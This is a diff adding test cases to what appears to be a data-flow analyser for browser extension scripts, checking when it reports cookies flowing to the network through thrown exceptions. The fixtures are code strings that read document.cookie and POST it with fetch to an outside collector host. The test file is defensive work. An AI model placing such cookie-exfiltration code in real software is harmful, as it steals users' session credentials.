@@ -35,6 +35,21 @@ describe('long forms of code', () => {
     });
   }
 
+  it('bring nothing to an outer catch that an inner one takes, or that a callback throws', () => {
+    const send = "fetch('https://in.gather.dev/', { method: 'POST', body: e })";
+    const fail = 'function fail() { throw document.cookie }';
+    for (const inner of ['try { fail() } catch {}', 'setTimeout(() => { fail() })'])
+      assert.deepEqual(
+        flowsBetween({ 'content.js': `${fail} try { ${inner} } catch (e) { ${send} }` }),
+        [],
+      );
+  });
+
+  it('bring what the last of a thousand calls throws', () => {
+    const code = `function fine() {} function fail() { throw document.cookie } try { ${'fine();'.repeat(1_000)} fail() } catch (e) { fetch('https://in.gather.dev/', { method: 'POST', body: e }) }`;
+    assert.ok(flowsBetween({ 'content.js': code }).join().includes('cookies content.js > network'));
+  });
+
   it('leave the parameters that share the name of a constant alone', () => {
     const text =
       "const k = 'a'; const pick = (o, k) => { const { [k]: x } = o; return x }; fetch('https://in.gather.dev/', { method: 'POST', body: pick({ b: document.cookie }, 'b') });";
